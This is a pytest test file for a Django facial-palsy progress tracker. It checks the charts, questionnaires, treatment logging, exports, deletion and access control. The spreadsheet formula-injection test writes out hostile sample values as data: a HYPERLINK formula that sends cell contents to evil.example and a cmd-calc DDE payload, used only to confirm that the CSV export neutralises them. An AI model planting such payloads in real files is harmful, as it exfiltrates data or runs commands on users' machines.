import datetime
import re

import pytest
from django.urls import reverse

from consult.photos.models import Photo, Visit
from consult.progress.models import OutcomeResponse, Treatment
from consult.progress.selectors import MEASURE_SERIES
from tests.consult.progress.conftest import measured_visit, stored_files, upload
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
D = datetime.date

PAGES = [
    ("progress:dashboard", {}),
    ("progress:export_csv", {}),
    ("progress:export_json", {}),
    ("progress:outcome_new", {"slug": "saq"}),
    ("progress:history_delete", {}),
]


@pytest.mark.parametrize(("name", "kwargs"), PAGES)
def test_anonymous_visitors_are_sent_to_sign_in(client, name, kwargs):
    response = client.get(reverse(name, kwargs=kwargs))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_dashboard_charts_each_visit_and_marks_treatments(client, patient):
    measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0)
    measured_visit(patient, D(2026, 5, 10), corner_dev=1.0, total=90.0)
    Treatment.objects.create(patient=patient, kind="botox", date=D(2026, 3, 2), label="Botox")
    client.force_login(patient)
    html = client.get(reverse("progress:dashboard")).content.decode()
    section = html.split('id="chart-commissure_rest"')[1].split("</figure>")[0]
    assert section.count('class="chart__point"') == 2
    assert "2026-01-10: 3.5 mm" in section and "2026-05-10: 1.0 mm" in section
    assert "Botox, 2026-03-02" in section
    assert 'id="chart-total"' in html


#: user, visits, their photos (one prefetch), outcomes, treatments; the session is served by the cache.
DASHBOARD_QUERIES = 5


@pytest.mark.parametrize("name", ["progress:dashboard", "progress:export_csv", "progress:export_json"])
def test_query_count_is_pinned_and_does_not_grow_with_the_history(client, patient, django_assert_num_queries, name):
    client.force_login(patient)
    measured_visit(patient, D(2026, 1, 1), corner_dev=3.0, total=70.0)
    client.get(reverse(name))  # warm the session cache
    with django_assert_num_queries(DASHBOARD_QUERIES):
        response = client.get(reverse(name))
    for month in range(2, 8):
        measured_visit(patient, D(2026, month, 1), corner_dev=2.0, total=80.0)
        Treatment.objects.create(patient=patient, kind="therapy", date=D(2026, month, 15))
        OutcomeResponse.objects.create(patient=patient, instrument="face", answers={},
                                       scores={"total": 50.0, "eye_comfort": 25.0}, completed_on=D(2026, month, 2))
    with django_assert_num_queries(DASHBOARD_QUERIES):
        response = client.get(reverse(name))
    if name == "progress:dashboard":
        assert response.content.decode().count('class="chart__point"') >= 7 * len(MEASURE_SERIES)


def test_questionnaires_are_listed_with_their_domains(client, patient):
    OutcomeResponse.objects.create(patient=patient, instrument="face", answers={}, completed_on=D(2026, 2, 1),
                                   scores={"total": 45.0, "facial_movement": 8.3, "lacrimal_control": 100.0})
    client.force_login(patient)
    html = client.get(reverse("progress:dashboard")).content.decode()
    assert "FaCE 45.0 / 100" in html
    assert "Facial movement 8 · Lacrimal control 100" in html
    assert html.split('id="chart-face"')[1].split("</figure>")[0].count('class="chart__point"') == 1


def test_a_patient_sees_and_exports_only_their_own_data(client, patient):
    measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0)
    Treatment.objects.create(patient=patient, kind="botox", date=D(2026, 3, 2), label="Secret botox")
    OutcomeResponse.objects.create(patient=patient, instrument="saq", answers={}, scores={"total": 60.0},
                                   completed_on=D(2026, 1, 10))
    other = UserFactory()
    client.force_login(other)
    html = client.get(reverse("progress:dashboard")).content.decode()
    assert "Secret botox" not in html and 'class="chart__point"' not in html
    assert client.get(reverse("progress:export_csv")).content.decode().strip().count("\n") == 0  # header only
    assert client.get(reverse("progress:export_json")).json() | {"exported_at": ""} == {
        "exported_at": "", "visits": [], "questionnaires": [], "treatments": [],
    }


def test_another_patient_cannot_remove_my_treatment_or_answers(client, patient):
    treatment = Treatment.objects.create(patient=patient, kind="botox", date=D(2026, 3, 2))
    response = OutcomeResponse.objects.create(patient=patient, instrument="saq", answers={},
                                              scores={"total": 60.0}, completed_on=D(2026, 1, 10))
    client.force_login(UserFactory())
    assert client.post(reverse("progress:treatment_remove", kwargs={"pk": treatment.pk})).status_code == 404
    assert client.post(reverse("progress:outcome_remove", kwargs={"pk": response.pk})).status_code == 404
    assert Treatment.objects.count() == 1 and OutcomeResponse.objects.count() == 1
    client.force_login(patient)
    assert client.post(reverse("progress:treatment_remove", kwargs={"pk": treatment.pk})).status_code == 302
    assert client.post(reverse("progress:outcome_remove", kwargs={"pk": response.pk})).status_code == 302
    assert not Treatment.objects.exists() and not OutcomeResponse.objects.exists()


@pytest.mark.parametrize(
    ("name", "kwargs"),
    [
        ("progress:treatment_add", {}),
        ("progress:treatment_remove", {"pk": 1}),
        ("progress:outcome_remove", {"pk": 1}),
        ("progress:photo_delete", {"pk": 1}),
        ("progress:history_delete", {}),
    ],
)
def test_anonymous_writes_are_sent_to_sign_in(client, name, kwargs):
    response = client.post(reverse(name, kwargs=kwargs), {"confirm": "delete"})
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_removal_endpoints_refuse_get(client, patient):
    treatment = Treatment.objects.create(patient=patient, kind="botox", date=D(2026, 3, 2))
    client.force_login(patient)
    assert client.get(reverse("progress:treatment_remove", kwargs={"pk": treatment.pk})).status_code == 405
    assert Treatment.objects.exists()


def test_log_a_treatment_and_bad_input_gets_a_form_error(client, patient):
    client.force_login(patient)
    response = client.post(reverse("progress:treatment_add"), {"kind": "botox", "date": "2026-03-02", "label": "Botox"})
    assert response.status_code == 302
    assert Treatment.objects.get(patient=patient).label == "Botox"

    future = (datetime.date.today() + datetime.timedelta(days=30)).isoformat()
    response = client.post(reverse("progress:treatment_add"), {"kind": "botox", "date": future})
    assert response.status_code == 400
    assert "in the future" in response.content.decode()
    response = client.post(reverse("progress:treatment_add"), {"kind": "magic", "date": "not a date"})
    assert response.status_code == 400
    assert Treatment.objects.filter(patient=patient).count() == 1


def test_fill_in_the_saq_and_see_the_score(client, patient):
    visit = measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0)
    client.force_login(patient)
    form = {"completed_on": "2026-01-10", "visit": visit.pk} | {f"saq{i}": 3 for i in range(1, 10)}
    response = client.post(reverse("progress:outcome_new", kwargs={"slug": "saq"}), form, follow=True)
    assert "score 60.0 / 100" in response.content.decode()
    saved = OutcomeResponse.objects.get(patient=patient)
    assert saved.scores == {"total": 60.0} and saved.visit == visit
    assert 'id="chart-saq"' in response.content.decode()


def test_incomplete_questionnaire_keeps_the_answers_and_says_what_is_missing(client, patient):
    client.force_login(patient)
    form = {"completed_on": "2026-01-10"} | {f"saq{i}": 2 for i in range(1, 9)}  # saq9 missing
    response = client.post(reverse("progress:outcome_new", kwargs={"slug": "saq"}), form)
    assert response.status_code == 400
    assert "Please answer this question." in response.content.decode()
    assert re.search(r'name="saq1" value="2"[^>]*checked', response.content.decode())  # answers kept
    assert not OutcomeResponse.objects.exists()


def test_cannot_link_a_questionnaire_to_someone_elses_visit(client, patient):
    other_visit = measured_visit(UserFactory(), D(2026, 1, 10), corner_dev=1.0, total=90.0)
    client.force_login(patient)
    form = {"completed_on": "2026-01-10", "visit": other_visit.pk} | {f"saq{i}": 3 for i in range(1, 10)}
    response = client.post(reverse("progress:outcome_new", kwargs={"slug": "saq"}), form)
    assert response.status_code == 400
    assert not OutcomeResponse.objects.exists()


def test_unknown_questionnaire_is_404(client, patient):
    client.force_login(patient)
    assert client.get(reverse("progress:outcome_new", kwargs={"slug": "nope"})).status_code == 404


def test_exports_hold_measurements_grades_questionnaires_and_treatments(client, patient):
    import csv
    import io

    visit = measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0)
    Treatment.objects.create(patient=patient, kind="botox", date=D(2026, 3, 2), label="Botox, chin", notes="4 units")
    OutcomeResponse.objects.create(patient=patient, instrument="saq", answers={f"saq{i}": 3 for i in range(1, 10)},
                                   scores={"total": 60.0}, completed_on=D(2026, 1, 10), visit=visit)
    client.force_login(patient)
    response = client.get(reverse("progress:export_csv"))
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0]) == ["kind", "date", "visit", "photo", "expression", "instrument", "name", "label", "unit",
                             "definition", "left", "right", "deviation", "asymmetry_pct", "value", "reliable", "notes"]
    by_kind: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_kind.setdefault(row["kind"], []).append(row)
    # 2 photos x 1 measure; 4 grades + the affected side; 9 answers; 1 score; 1 treatment
    assert {k: len(v) for k, v in by_kind.items()} == {
        "measure": 2, "grade": 5, "questionnaire_answer": 9, "questionnaire_score": 1, "treatment": 1,
    }
    neutral = next(r for r in by_kind["measure"] if r["expression"] == "neutral")
    assert neutral == {
        "kind": "measure", "date": "2026-01-10", "visit": str(visit.pk), "photo": str(visit.photos.first().pk),
        "expression": "neutral",
        "instrument": "", "name": "commissure_height", "label": "mouth corner height", "unit": "mm",
        "definition": "From the line through both pupils straight down to the corner of the mouth.",
        "left": "63.5", "right": "60.0", "deviation": "3.5",
        "asymmetry_pct": str(3.5 / 60 * 100), "value": "", "reliable": "yes", "notes": "",
    }
    assert {(r["name"], r["value"]) for r in by_kind["grade"]} >= {("total", "70.0"), ("affected_side", "left")}
    assert {(r["instrument"], r["name"], r["value"]) for r in by_kind["questionnaire_answer"]} == {
        ("saq", f"saq{i}", "3") for i in range(1, 10)
    }
    score = by_kind["questionnaire_score"][0]
    assert (score["instrument"], score["name"], score["value"], score["visit"]) == ("saq", "total", "60.0", str(visit.pk))
    treatment = by_kind["treatment"][0]
    assert (treatment["date"], treatment["name"], treatment["value"], treatment["notes"]) == (
        "2026-03-02", "botox", "Botox, chin", "4 units")

    doc = client.get(reverse("progress:export_json")).json()
    assert [p["expression"] for p in doc["visits"][0]["photos"]] == ["neutral", "smile"]
    assert doc["visits"][0]["photos"][0]["measurement"]["deviation"]["commissure_height"] == 3.5
    assert doc["visits"][0]["report"]["scores"]["total"] == 70.0
    assert doc["questionnaires"] == [{"instrument": "saq", "completed_on": "2026-01-10", "visit": visit.pk,
                                      "answers": {f"saq{i}": 3 for i in range(1, 10)}, "scores": {"total": 60.0}}]
    assert doc["treatments"] == [{"kind": "botox", "label": "Botox, chin", "date": "2026-03-02", "notes": "4 units"}]


def test_delete_one_photo_removes_its_files(client, patient, photo_storage, django_capture_on_commit_callbacks):
    visit = Visit.objects.create(patient=patient, taken_on=D(2026, 1, 1))
    with django_capture_on_commit_callbacks(execute=False):
        photo, keep = upload(visit), upload(visit, "smile")
    client.force_login(patient)
    url = reverse("progress:photo_delete", kwargs={"pk": photo.pk})
    assert "Delete this photo?" in client.get(url).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url)
    assert response.status_code == 302
    assert not Photo.objects.filter(pk=photo.pk).exists()
    names = {p.relative_to(photo_storage).as_posix() for p in stored_files(photo_storage)}
    assert names == {keep.image.name, keep.thumbnail.name}


def test_another_patient_cannot_delete_my_photo(client, patient, photo_storage, django_capture_on_commit_callbacks):
    visit = Visit.objects.create(patient=patient, taken_on=D(2026, 1, 1))
    with django_capture_on_commit_callbacks(execute=False):
        photo = upload(visit)
    client.force_login(UserFactory())
    url = reverse("progress:photo_delete", kwargs={"pk": photo.pk})
    assert client.get(url).status_code == 404
    assert client.post(url).status_code == 404
    assert Photo.objects.filter(pk=photo.pk).exists()
    assert len(stored_files(photo_storage)) == 2


def test_delete_whole_history_needs_the_confirmation_box(client, patient, photo_storage,
                                                         django_capture_on_commit_callbacks):
    for day in (1, 2):
        visit = Visit.objects.create(patient=patient, taken_on=D(2026, 1, day))
        with django_capture_on_commit_callbacks(execute=False):
            upload(visit)
    client.force_login(patient)
    client.post(reverse("progress:history_delete"), {})
    assert Visit.objects.filter(patient=patient).count() == 2
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("progress:history_delete"), {"confirm": "delete"}, follow=True)
    assert "Deleted 2 photo set(s)" in response.content.decode()
    assert not Visit.objects.filter(patient=patient).exists()
    assert stored_files(photo_storage) == []


def test_before_after_chooser_only_offers_my_own_photo_sets(client, patient):
    first = measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0)
    latest = measured_visit(patient, D(2026, 5, 10), corner_dev=1.0, total=90.0)
    stranger = measured_visit(UserFactory(), D(2026, 3, 1), corner_dev=9.0, total=10.0)
    client.force_login(patient)
    response = client.get(reverse("progress:dashboard"), {"before": stranger.pk, "after": first.pk})
    assert response.context["before"] == first  # someone else's set falls back to my first one
    assert response.context["after"] == first
    assert f'value="{stranger.pk}"' not in response.content.decode()
    assert client.get(reverse("progress:dashboard")).context["after"] == latest


def test_questionnaire_opened_from_a_photo_set_is_linked_and_dated_with_it(client, patient):
    visit = measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0)
    stranger = measured_visit(UserFactory(), D(2026, 2, 1), corner_dev=1.0, total=90.0)
    client.force_login(patient)
    dashboard = client.get(reverse("progress:dashboard")).content.decode()
    url = reverse("progress:outcome_new", kwargs={"slug": "face"})
    assert f'href="{url}?visit={visit.pk}"' in dashboard
    form = client.get(url, {"visit": visit.pk}).context["form"]
    assert form["visit"].value() == visit.pk and form["completed_on"].value() == D(2026, 1, 10)
    form = client.get(url, {"visit": stranger.pk}).context["form"]
    assert form["visit"].value() is None  # someone else's set is not offered


@pytest.mark.parametrize(
    ("name", "kwargs", "queries"),
    [
        ("progress:outcome_new", {"slug": "face"}, 2),  # user, the photo sets for the chooser
        ("progress:history_delete", {}, 1),  # user
    ],
)
def test_form_pages_query_counts(client, patient, django_assert_num_queries, name, kwargs, queries):
    for month in range(1, 4):
        measured_visit(patient, D(2026, month, 1), corner_dev=2.0, total=80.0)
    client.force_login(patient)
    client.get(reverse(name, kwargs=kwargs))  # warm the session cache
    with django_assert_num_queries(queries):
        assert client.get(reverse(name, kwargs=kwargs)).status_code == 200


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, patient):
    import csv
    import io

    measured_visit(patient, D(2026, 1, 10), corner_dev=-1.5, total=70.0)
    for lead in ("=", "+", "-", "@"):
        Treatment.objects.create(patient=patient, kind="other", date=D(2026, 3, 2),
                                 label=f'{lead}HYPERLINK("http://evil.example/?"&A1,"x")', notes=f"{lead}cmd|' /C calc'!A0")
    client.force_login(patient)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("progress:export_csv")).content.decode())))
    treatments = [r for r in rows if r["kind"] == "treatment"]
    assert len(treatments) == 4
    for row in treatments:
        assert row["value"].startswith("'") and row["value"][1] in "=+-@"
        assert row["notes"].startswith("'")
    # Numbers stay numbers: a negative measure is not turned into text.
    measure = next(r for r in rows if r["kind"] == "measure" and r["name"] == "commissure_height")
    assert float(measure["left"]) == 58.5
    assert any(r["deviation"] == "-1.5" for r in rows if r["kind"] == "measure")


@pytest.mark.parametrize("value", ["%C2%B2", "%D9%A3", "1e3", "-1", "", "9" * 40])
def test_questionnaire_with_a_strange_visit_parameter_is_not_a_500(client, patient, value):
    client.force_login(patient)
    response = client.get(reverse("progress:outcome_new", kwargs={"slug": "saq"}) + f"?visit={value}")
    assert response.status_code == 200


def test_progress_pages_are_never_cached(client, patient):
    client.force_login(patient)
    for name, kwargs in PAGES:
        response = client.get(reverse(name, kwargs=kwargs))
        assert response["Cache-Control"] == "private, no-store", name


def test_numbers_the_engine_does_not_trust_stay_out_of_the_charts_and_are_marked_in_the_csv(client, patient):
    import csv
    import io

    from consult.progress import selectors

    good = measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0)
    doubtful = measured_visit(patient, D(2026, 2, 10), corner_dev=9.0, total=60.0)
    for photo in doubtful.photos.all():
        m = dict(photo.measurement)
        m["needs_retake"] = True
        m["warnings"] = [{"code": "scale_uncertain", "message": "the iris size estimates disagree"}]
        m["confidence"] = {"commissure_height": {"left": 0.3, "right": 0.3, "low": True, "reasons": ["scale"]}}
        photo.measurement = m
        photo.save()
    spec = next(s for s in selectors.MEASURE_SERIES if s.key == "commissure_rest")
    assert selectors.measure_value(good, spec) == 3.5
    assert selectors.measure_value(doubtful, spec) is None
    client.force_login(patient)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("progress:export_csv")).content.decode())))
    by_visit = {(r["visit"], r["expression"]): r for r in rows if r["kind"] == "measure"}
    assert by_visit[(str(good.pk), "neutral")]["reliable"] == "yes"
    flagged = by_visit[(str(doubtful.pk), "neutral")]
    assert flagged["reliable"] == "no" and flagged["notes"].startswith("not reliable: the size of the iris")


def test_measure_charts_start_at_zero_and_show_the_engines_own_uncertainty(client, patient):
    """The band is the stored report's per-measure confidence (both sides, root-sum-square) plus the scale's
    uncertainty as a share of the difference; the page says what the shading is."""
    import math

    from consult.progress.selectors import MEASURE_SERIES, measure_uncertainty

    visits = [measured_visit(patient, D(2026, 1, 10), corner_dev=3.5, total=70.0),
              measured_visit(patient, D(2026, 5, 10), corner_dev=3.3, total=72.0)]
    for visit in visits:
        photo = visit.photos.get(expression="neutral")
        photo.measurement["confidence"] = {"commissure_height": {"left": 0.2, "right": 0.3, "low": False, "reasons": []}}
        photo.measurement["scale"] = {"uncertainty_pct": 2.0}
        photo.save(update_fields=["measurement"])
    spec = next(s for s in MEASURE_SERIES if s.key == "commissure_rest")
    visits[0].refresh_from_db()
    expected = math.sqrt(0.2**2 + 0.3**2) + 3.5 * 0.02
    assert abs(measure_uncertainty(visits[0], spec) - expected) < 1e-9
    client.force_login(patient)
    html = client.get(reverse("progress:dashboard")).content.decode()
    section = html.split('id="chart-commissure_rest"')[1].split("</figure>")[0]
    assert 'class="chart__band"' in section and "measurement's own uncertainty" in section
    assert f"2026-01-10: 3.5 mm (± {expected:.1f})" in section
    assert '>0.0</text>' in section or '>0</text>' in section  # the axis starts at 0
    # A measure without stored confidence gets no band and no note.
    smile = html.split('id="chart-smile_angle"')[1].split("</figure>")[0]
    assert "chart__band" not in smile and "own uncertainty" not in smile
